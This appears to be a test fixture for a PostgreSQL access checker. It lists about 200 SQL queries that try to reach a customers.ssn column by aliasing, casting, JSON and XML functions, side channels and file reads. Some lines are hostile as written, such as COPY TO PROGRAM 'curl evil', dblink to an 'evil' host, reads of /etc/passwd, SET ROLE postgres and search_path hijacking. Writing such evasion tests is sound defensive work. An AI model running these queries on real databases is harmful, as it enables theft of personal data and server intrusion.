-- Ways to get at customers.ssn without its name in the result, or without a name
-- at all. Each must show customers.ssn among the sources or uses, or be opaque.

TABLE customers

SELECT customers FROM customers

SELECT "customers" FROM "customers"

SELECT SSN AS safe FROM CUSTOMERS

SELECT "ssn" AS "id" FROM public."customers"

SELECT U&"\0073\0073\006E" AS x FROM U&"\0063ustomers"

SELECT U&"d!0073sn" UESCAPE '!' FROM (SELECT ssn AS dssn FROM customers) x

SELECT ss/**/n FROM customers

SELECT /* harmless */ ssn -- id
FROM customers

SELECT c.ssn FROM customers AS c

SELECT orders.ssn FROM customers AS orders

SELECT x FROM customers AS orders(a, b, x)

SELECT s.y FROM (SELECT ssn FROM customers) AS s(y)

SELECT row_to_json(c) FROM customers c

SELECT to_jsonb(customers) ->> 'ssn' FROM customers

SELECT c::text FROM customers c

SELECT CAST(c AS text) FROM customers c

SELECT textin(record_out(c)) FROM customers c

SELECT format('%s', c) FROM customers c

SELECT c || '' FROM customers c

SELECT concat(c) FROM customers c

SELECT array_agg(c) FROM customers c

SELECT (array_agg(c))[1].ssn FROM customers c

SELECT ARRAY[c] FROM customers c

SELECT ARRAY(SELECT c FROM customers c)

SELECT ROW(c.*) FROM customers c

SELECT (c).ssn FROM customers c

SELECT (c).* FROM customers c

SELECT ((c)).ssn FROM customers c

SELECT (x.c).ssn FROM (SELECT c FROM customers c) x

SELECT ssn(c) FROM customers c

SELECT customers.row_to_json FROM customers

SELECT c.to_jsonb FROM customers c

SELECT (c).to_json FROM customers c

SELECT (ROW(c.ssn, 1)).f1 FROM customers c

SELECT (first_value(c) OVER ()).ssn FROM customers c

SELECT COALESCE(c, NULL) FROM customers c

SELECT CASE WHEN true THEN c END FROM customers c

SELECT (SELECT c FROM customers c LIMIT 1)

SELECT j.value FROM customers c, json_each_text(row_to_json(c)) j

SELECT v FROM customers c, LATERAL jsonb_each(to_jsonb(c)) AS t(k, v)

SELECT t.* FROM customers c, LATERAL (SELECT c.*) t

SELECT t.y FROM customers c CROSS JOIN LATERAL (VALUES (c.name, c.ssn)) AS t(x, y)

SELECT x FROM (VALUES ((SELECT ssn FROM customers LIMIT 1))) v(x)

SELECT column1 FROM (VALUES ((SELECT string_agg(ssn, ',') FROM customers))) v

WITH customers AS (SELECT id, 'x' AS ssn FROM orders) SELECT ssn FROM public.customers

WITH orders AS (SELECT ssn AS note FROM customers) SELECT note FROM orders

WITH a AS (WITH orders AS (SELECT * FROM customers) SELECT * FROM orders) SELECT a.ssn FROM a

WITH RECURSIVE orders AS (SELECT ssn::text AS note, 1 AS n FROM customers UNION ALL SELECT note, n + 1 FROM orders WHERE n < 2) SELECT note FROM orders

WITH RECURSIVE t AS (SELECT id AS n, NULL::text AS s FROM orders UNION ALL SELECT n + 1, (SELECT ssn FROM customers LIMIT 1) FROM t WHERE n < 3) SELECT s FROM t

WITH RECURSIVE t AS (SELECT 'a' AS a, 'b' AS b, ssn::text AS c FROM customers UNION ALL SELECT b, c, a FROM t) SELECT a FROM t

WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT ssn FROM d

WITH u AS (UPDATE customers SET name = name RETURNING ssn) SELECT * FROM u

WITH i AS (INSERT INTO orders (id, note) SELECT id, ssn FROM customers RETURNING note) SELECT note FROM i

SELECT name FROM orders UNION SELECT ssn FROM customers

SELECT note FROM orders UNION ALL (SELECT name FROM crm.customers UNION SELECT ssn FROM customers)

SELECT ssn FROM customers EXCEPT SELECT ''

SELECT '123-45-6789' INTERSECT SELECT ssn FROM customers

SELECT '123-45-6789' EXCEPT SELECT ssn FROM customers

SELECT (SELECT ssn FROM customers WHERE customers.id = orders.id) FROM orders

SELECT max(ssn) FROM customers

SELECT min(c) FROM customers c

SELECT string_agg(ssn, ',') FROM customers

SELECT json_agg(json_build_object('k', ssn)) FROM customers

SELECT json_object('k' : ssn) FROM customers

SELECT json_arrayagg(ssn) FROM customers

SELECT json_array(SELECT ssn FROM customers)

SELECT xmlforest(ssn) FROM customers

SELECT xmlelement(name a, xmlattributes(ssn)) FROM customers

SELECT x.* FROM customers c, xmltable('/a' PASSING (xmlelement(name a, c.ssn)) COLUMNS t text PATH '.') x

SELECT x.* FROM customers c, json_table(to_jsonb(c), '$' COLUMNS (s text PATH '$.ssn')) x

SELECT lag(ssn) OVER (ORDER BY id) FROM customers

SELECT row_number() OVER (ORDER BY ssn) FROM customers

SELECT count(*) OVER (PARTITION BY ssn) FROM customers

SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY ssn) FROM customers

SELECT array_agg(id ORDER BY ssn) FROM customers

SELECT count(*) FILTER (WHERE ssn LIKE '1%') FROM customers

SELECT substring(ssn, 1, 3) FROM customers

SELECT encode(ssn::bytea, 'hex') FROM customers

SELECT ascii(ssn), length(ssn), md5(ssn) FROM customers

SELECT ssn IS NULL, ssn = '1', ssn > '5', ssn IS DISTINCT FROM 'x', ssn SIMILAR TO '1%' FROM customers

SELECT CASE WHEN ssn LIKE '1%' THEN 'yes' ELSE 'no' END FROM customers

SELECT EXISTS (SELECT 1 FROM customers WHERE ssn LIKE '1%')

SELECT '123' IN (SELECT ssn FROM customers)

SELECT '123' = ANY (ARRAY(SELECT ssn FROM customers))

SELECT '123' < ALL (SELECT ssn FROM customers)

SELECT (1, '123') = (SELECT id, ssn FROM customers LIMIT 1)

SELECT id FROM customers WHERE ssn = '123-45-6789'

SELECT id FROM customers WHERE (customers).ssn = '1'

SELECT id FROM customers c WHERE c::text LIKE '%123%'

SELECT id FROM customers ORDER BY ssn

SELECT ssn FROM customers ORDER BY 1

SELECT id FROM customers c ORDER BY c

SELECT count(*) FROM customers GROUP BY ssn

SELECT count(*) FROM customers GROUP BY substring(ssn, 1, 1)

SELECT count(*) FROM customers GROUP BY GROUPING SETS ((ssn), (name, id))

SELECT ssn, count(*) FROM customers GROUP BY 1

SELECT DISTINCT ssn FROM customers

SELECT DISTINCT ON (ssn) id FROM customers

SELECT id FROM customers GROUP BY id HAVING max(ssn) > '5'

SELECT o.id FROM orders o JOIN customers c ON c.ssn = o.note

SELECT id FROM customers JOIN (SELECT '1' AS ssn) x USING (ssn)

SELECT id FROM customers NATURAL JOIN (SELECT '1' AS ssn) x

SELECT ssn FROM (SELECT '1' AS ssn) x RIGHT JOIN customers USING (ssn)

SELECT j.ssn FROM customers JOIN people USING (id, ssn) AS j

SELECT id FROM orders LIMIT (SELECT count(*) FROM customers WHERE ssn LIKE '1%')

SELECT id FROM orders OFFSET (SELECT ascii(ssn) FROM customers LIMIT 1)

SELECT id FROM orders TABLESAMPLE bernoulli ((SELECT ascii(ssn) FROM customers LIMIT 1))

SELECT g FROM generate_series(1, (SELECT ascii(ssn) FROM customers LIMIT 1)) g

SELECT repeat('x', ascii(ssn)) FROM customers

SELECT s FROM masked

SELECT us FROM stacked

SELECT * FROM unioned

SELECT s FROM recursive_view

SELECT ssn FROM mat

SELECT upper_ssn FROM generated

SELECT ssn FROM employees

SELECT ssn FROM people

SELECT payload FROM events_a

SELECT leak(1)

SELECT * FROM leaks()

SELECT ssn FROM all_customers()

SELECT full_name(c) FROM customers c

SELECT c.full_name FROM customers c

SELECT evil.lower(name) FROM customers

SELECT query_to_xml('SELECT ssn FROM customers', true, true, '')

SELECT table_to_xml('customers', true, true, '')

SELECT database_to_xml(true, true, '')

SELECT * FROM ts_stat('SELECT ssn::tsvector FROM customers')

SELECT pg_read_file('base/1/1234')

SELECT pg_read_binary_file(pg_relation_filepath('customers'))

SELECT lo_import('/etc/passwd')

SELECT lo_get(1)

SELECT ('/etc/passwd'::text).pg_read_file

SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers'

SELECT stavalues1 FROM pg_statistic

SELECT query FROM pg_stat_activity

SELECT pg_stat_get_backend_activity(1)

SELECT set_config('my.x', ssn, false) FROM customers

SELECT 1 FROM customers WHERE set_config('my.x', ssn, false) IS NOT NULL

SELECT set_config('search_path', 'evil', false)

SELECT set_config(name, 'evil', false) FROM customers

SELECT pg_notify('c', ssn) FROM customers

SELECT pg_advisory_lock(ascii(ssn)) FROM customers

SELECT setval('seq', ascii(ssn)) FROM customers

SELECT setseed(ascii(ssn) / 256.0) FROM customers

SELECT dblink('host=evil', 'SELECT 1')

SELECT nosuchfunction(ssn) FROM customers

SELECT nosuchcolumn FROM customers

SELECT nosuch.ssn FROM customers

SELECT * FROM nosuchtable

SELECT ssn FROM nosuchtable, customers

SELECT a FROM nosuchtable, customers

SELECT pg_temp.customers.ssn FROM pg_temp.customers

SELECT ssn FROM otherdb.public.customers

INSERT INTO orders (note) SELECT ssn FROM customers

INSERT INTO orders (id, note) VALUES (1, (SELECT ssn FROM customers LIMIT 1))

UPDATE orders SET note = c.ssn FROM customers c WHERE c.id = orders.customer_id

UPDATE orders SET (note, name) = (SELECT ssn, name FROM customers LIMIT 1) WHERE id = 1

UPDATE customers SET name = ssn WHERE id = 1 RETURNING name

UPDATE customers SET ssn = ssn RETURNING old.ssn, new.ssn

DELETE FROM customers WHERE id = 1 RETURNING customers

MERGE INTO orders o USING customers c ON c.id = o.customer_id WHEN MATCHED THEN UPDATE SET note = c.ssn RETURNING c.ssn

INSERT INTO customers (id, name) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET name = customers.ssn RETURNING name

CREATE TABLE copy AS SELECT ssn AS harmless FROM customers

SELECT ssn AS harmless INTO copy FROM customers

CREATE TEMP TABLE copy AS TABLE customers

CREATE VIEW v AS SELECT ssn AS x FROM customers

CREATE MATERIALIZED VIEW mv AS SELECT ssn FROM customers

COPY customers TO STDOUT

COPY customers (ssn) TO STDOUT

COPY (SELECT ssn FROM customers) TO STDOUT

COPY (DELETE FROM customers RETURNING ssn) TO STDOUT

COPY customers TO '/tmp/x'

COPY customers TO PROGRAM 'curl evil'

COPY orders FROM '/etc/passwd'

EXPLAIN ANALYZE SELECT * FROM customers WHERE ssn = '1'

EXPLAIN (ANALYZE) DELETE FROM customers

EXPLAIN DELETE FROM customers

PREPARE p AS SELECT ssn FROM customers

EXECUTE p

DECLARE c CURSOR FOR SELECT ssn FROM customers

FETCH ALL FROM c

DO $$ BEGIN RAISE NOTICE '%', (SELECT ssn FROM customers LIMIT 1); END $$

CALL doit(1)

SELECT 1; SELECT ssn FROM customers

SET search_path = evil; SELECT * FROM orders

BEGIN; ALTER TABLE customers RENAME TO x; SELECT * FROM x; COMMIT

SET ROLE postgres; SELECT ssn FROM customers

SELECT c.id FROM customers c, customers d WHERE c.ssn < d.ssn

SELECT id FROM (SELECT id, ssn FROM customers) x WHERE ssn = '1'

SELECT id FROM (SELECT id, ssn AS s FROM customers) x ORDER BY s

SELECT sum(length(s)) FROM (SELECT ssn AS s FROM customers) x

SELECT json_populate_record(NULL::orders, to_json(c)) FROM customers c

SELECT (json_populate_record(NULL::orders, to_json(c))).note FROM customers c

SELECT * FROM json_populate_record(NULL::orders, (SELECT to_json(c) FROM customers c LIMIT 1))

SELECT x.a FROM json_to_record((SELECT json_build_object('a', ssn) FROM customers LIMIT 1)) AS x(a text)

SELECT unnest(ARRAY[ssn]) FROM customers

SELECT regexp_matches(ssn, '(\d+)', 'g') FROM customers

SELECT regexp_split_to_table(ssn, '-') FROM customers

SELECT spy(ssn) FROM customers

SELECT spy(name) FROM customers

SELECT count(*) FROM customers c, generate_series(1, ascii(c.ssn))

SELECT count(*) FROM (SELECT generate_series(1, ascii(ssn)) FROM customers) x

SELECT EXISTS (SELECT generate_series(1, ascii(ssn) - 56) FROM customers)

SELECT count(*) FROM customers c, unnest(string_to_array(c.ssn, '1'), ARRAY[1])

SELECT count(*) FROM customers c, xmltable('/a' PASSING (c.ssn::xml) COLUMNS x int)

SELECT count(*) FROM customers c, json_table(c.ssn::jsonb, '$' COLUMNS (x int PATH '$'))

WITH x AS MATERIALIZED (SELECT ssn::int FROM customers) SELECT count(*) FROM x

SELECT count(*) FROM (SELECT 1 / (ascii(ssn) - 49) FROM customers OFFSET 0) x

SELECT 1 FROM (VALUES ((SELECT max(ssn::int) FROM customers))) v

SELECT 1 FROM int4((SELECT max(ssn) FROM customers))

INSERT INTO orders (id) SELECT id FROM (SELECT id, ssn::int FROM customers) x
